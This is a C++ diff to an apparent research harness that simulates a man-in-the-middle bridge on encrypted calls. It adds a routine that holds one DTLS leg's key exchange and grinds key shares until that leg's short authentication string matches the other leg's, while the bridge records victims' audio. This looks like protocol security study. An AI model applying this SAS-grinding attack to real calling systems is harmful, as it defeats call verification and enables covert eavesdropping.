@@ -8,6 +8,7 @@
 #include "attacks/srtp_session.hpp"
 #include "sim/dtls_endpoint.hpp"
 #include "sim/ice_agent.hpp"
+#include "sim/out_of_band.hpp"
 
 namespace sigtrust::attacks {
 
@@ -90,6 +91,7 @@ struct MitmBridge::RoomBridge {
   std::string offer_text;
   RelayedMessage offer_msg;
   bool offer_forwarded = false;
+  bool grind_started = false;
   std::map<std::uint32_t, std::unique_ptr<OpusWavRecorder>> recorders;  // by SSRC
 
   RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {
@@ -137,8 +139,56 @@ struct MitmBridge::RoomBridge {
     leg.ice->gather();
   }
 
+  // sas-grind-mitm: once the client leg holds its key exchange and the
+  // other leg is up (its SAS fixed) or gone, the client leg decides.
+  void maybe_grind() {
+    const BridgeOptions& o = bridge.options_;
+    if (grind_started || o.grind_budget == 0) return;
+    for (int c = 0; c < 2; ++c) {
+      Leg& client = legs[c];
+      Leg& other = legs[1 - c];
+      if (!client.dtls || !client.dtls->flight_held() || !other.dtls) continue;
+      const auto state = other.dtls->state();
+      if (state == DtlsEndpoint::State::Handshaking || state == DtlsEndpoint::State::Idle) return;
+      grind_started = true;
+      std::optional<std::string> target;
+      if (state == DtlsEndpoint::State::Connected)
+        if (auto bytes = other.dtls->export_keying_material(kSasExporterLabel, kSasExporterBytes))
+          target = render_sas(*bytes, o.grind_bits);
+      if (!target) {
+        event("attack.grind", "the leg toward " + other.victim + " is not up: no SAS to match; sending " +
+                                  client.victim + " the first key share");
+        return client.dtls->grind(kSasExporterLabel, kSasExporterBytes, [](const auto&) { return false; }, 1,
+                                  [](const GrindResult&) {});
+      }
+      event("attack.grind", other.victim + "'s SAS is " + *target + "; trying up to " +
+                                std::to_string(o.grind_budget) + " key shares toward " + client.victim +
+                                " for the same string");
+      const unsigned bits = o.grind_bits;
+      return client.dtls->grind(
+          kSasExporterLabel, kSasExporterBytes,
+          [target = *target, bits](const std::vector<std::uint8_t>& b) { return render_sas(b, bits) == target; },
+          o.grind_budget, [this, c, target = *target](const GrindResult& r) {
+            AttackerSessionReport& rep = report();
+            rep.grind_tries = r.tries;
+            rep.grind_matched = r.found;
+            char rate[64];
+            std::snprintf(rate, sizeof rate, "%.2f s, %.0f tries/s", r.seconds,
+                          r.seconds > 0 ? static_cast<double>(r.tries) / r.seconds : 0.0);
+            event("attack.grind", !r.error.empty()
+                                      ? "gave up after " + std::to_string(r.tries) + " tries: " + r.error
+                                  : r.found ? "try " + std::to_string(r.tries) + " gives " + legs[c].victim +
+                                                  " the SAS " + target + " too (" + rate + "); sent that key share"
+                                            : "no try of " + std::to_string(r.tries) + " gives " + target + " (" +
+                                                  rate + "); sent the first key share");
+          });
+    }
+  }
+
   void make_dtls(int i, DtlsRole role) {
     Leg& leg = legs[i];
+    DtlsOptions dtls_options;
+    dtls_options.hold_key_exchange = bridge.options_.grind_budget > 0 && role == DtlsRole::Client;
     leg.dtls = std::make_unique<DtlsEndpoint>(
         bridge.world_.loop, bridge.cert_, role,
         DtlsCallbacks{
@@ -169,12 +219,19 @@ struct MitmBridge::RoomBridge {
                   auto pending = std::move(l.pending_data);
                   l.pending_data.clear();
                   for (const auto& p : pending) l.dtls->send(p);
+                  maybe_grind();
                 },
-            .on_failed = [this, i](const std::string& why) { event("attack.leg-failed", legs[i].victim + ": " + why); },
+            .on_failed =
+                [this, i](const std::string& why) {
+                  event("attack.leg-failed", legs[i].victim + ": " + why);
+                  maybe_grind();
+                },
             .on_data = [this, i](std::string_view data) { relay_data(i, std::string(data)); },
             .on_closed = nullptr,
             .key_log = bridge.world_.key_log,
-        });
+            .on_flight_held = [this] { maybe_grind(); },
+        },
+        dtls_options);
     for (auto& d : leg.early_in) leg.dtls->receive(d);
     leg.early_in.clear();
     if (leg.ready && role == DtlsRole::Client) leg.dtls->start();
